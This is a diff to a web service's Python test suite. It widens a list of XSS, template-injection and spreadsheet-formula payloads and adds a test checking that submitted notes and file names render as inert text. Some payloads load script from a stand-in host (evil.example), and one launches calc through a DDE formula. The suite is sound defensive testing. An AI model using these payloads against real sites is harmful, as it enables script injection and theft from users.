@@ -14,6 +14,7 @@ from onrecord.serve.rendering import identifier_link, web_link
 from onrecord.serve.security import POLICY, Rate, allowed_hosts
 from onrecord.store import Store
 from tests.conftest import make_report
+from tests.serve.coder import make
 from tests.serve.conftest import BASE, FAST, PORT, client_of
 from tests.serve.page import Parsed
 
@@ -120,6 +121,53 @@ PAYLOADS = [
     "\u2028<script>\u2029", "\ufeff<script>", "+ADw-script+AD4-", "<scr\u0000ipt>".replace("\0", "\u0001"),
     "\u202e<b>\u202c", "=HYPERLINK(\"//evil.example\")", "../../etc/passwd", "%3Cscript%3E", "<br/\n>\r\n<hr>",
 ]  # fmt: skip
+# More of the same kind, by what they try: tags that run, handlers, addresses, broken quoting, other parsers.
+PAYLOADS += [
+    f"<{tag} {handler}=alert(1){rest}>"
+    for tag, handler, rest in [
+        ("video", "onerror", "><source src=x"),
+        ("audio src=x", "onerror", ""),
+        ("body", "onload", ""),
+        ("details open", "ontoggle", ""),
+        ("input autofocus", "onfocus", ""),
+        ("select autofocus", "onfocus", ""),
+        ("marquee", "onstart", ""),
+        ("object data=x", "onerror", ""),
+        ("embed src=x", "onload", ""),
+        ("svg><animate", "onbegin", " attributeName=x"),
+        ("svg><set", "onbegin", " attributeName=x"),
+        ("isindex type=image src=x", "onerror", ""),
+        ("div tabindex=0", "onpointerenter", ""),
+        ("style", "onload", ""),
+        ("link rel=stylesheet href=x", "onerror", ""),
+        ("frameset", "onload", ""),
+        ("textarea autofocus", "onfocus", ""),
+        ("keygen autofocus", "onfocus", ""),
+        ("dialog open", "oncancel", ""),
+        ("x contenteditable", "oninput", ""),
+        ("p style=animation:x", "onanimationend", ""),
+    ]
+]
+PAYLOADS += [
+    "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\t>alert(1)</script >",
+    "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>/*", "*/alert(1)</script>",
+    "<script type=module>import('//evil.example')</script>", "<svg><script href=data:,alert(1) />",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>", "<svg><use href=data:image/svg+xml,x#x></use></svg>",
+    "<svg><foreignObject><iframe srcdoc=x></foreignObject>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form><button formaction=javascript:x>y",
+    "<input type=image src=x formaction=javascript:x>", "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href=\"java&#9;script:alert(1)\">x</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
+    "\\\"><script>alert(1)</script>", "\\'; alert(1); //", "';alert(1)//", "\"-alert(1)-\"",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "</svg><script>alert(1)</script>",
+    "</option></select><script>x</script>", "</a><a href=//evil.example>", "]]><script>x</script>",
+    "--!><script>x</script>",
+    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>x</x:script>", "<%00script>x</script>",
+    "{{constructor.constructor('alert(1)')()}}", "#{7*7}", "{{=alert(1)}}", "@import '//evil.example'",
+    "expression(alert(1))", "url(javascript:alert(1))", "//evil.example", "\\\\evil.example\\x", "https:evil.example",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]  # fmt: skip
 HARMLESS = "harmless"
 ALLOWED = {
     "html", "head", "meta", "title", "link", "script", "body", "a", "header", "svg", "path", "nav", "form", "input",
@@ -181,7 +229,7 @@ def check(page: str) -> Parsed:
 
 
 def test_there_are_enough_payloads() -> None:
-    assert len(set(PAYLOADS)) > 30
+    assert len(set(PAYLOADS)) >= 100
 
 
 @pytest.mark.parametrize("n", range(len(PAYLOADS)))
@@ -290,3 +338,28 @@ def test_the_way_in_leads_nowhere_else(guarded: TestClient) -> None:
 def test_changes_come_from_the_host_that_was_asked(guarded: TestClient, host: str, origin: str, status: int) -> None:
     headers = {"authorization": f"Bearer {TOKEN}", "host": host, "origin": origin}
     assert guarded.post("/api/judgements", headers=headers).status_code == status
+
+
+def test_notes_and_names_of_files_are_only_text(path: Path, tmp_path: Path) -> None:
+    own = tmp_path / "desk.db"
+    with Store(own) as store:
+        store.put(make_report())
+    client = client_of(own, Options(limits=Limits(reads=1e6, changes=1e6, jobs=1000), make=make))
+    client.headers.update({"origin": BASE})
+
+    def pages(payload: str) -> list[Parsed]:
+        said = {"article": "r1", "record": "e1", "verdict": "confirm", "note": payload, "judge": payload[:100]}
+        judged = client.post("/api/judgements", json=said)
+        assert judged.status_code == 201, payload
+        name = payload.replace("/", "_").replace("\\", "_").lstrip(". ") + ".txt"
+        assert client.post("/api/jobs/file", params={"name": name}, content=b"").status_code == 202, payload
+        found = [Parsed(client.get(address).text) for address in ("/judgements", "/article?id=r1", "/jobs")]
+        client.delete(f"/api/judgements/{judged.json()['id']}")
+        return found
+
+    benign = {tag for page in pages(HARMLESS) for tag, _ in page.elements}
+    for payload in PAYLOADS:
+        for page in pages(payload):
+            assert {tag for tag, _ in page.elements} <= benign, payload
+            for _, attributes in page.elements:
+                assert not any(name.startswith("on") or name in ("style", "srcdoc") for name in attributes), payload
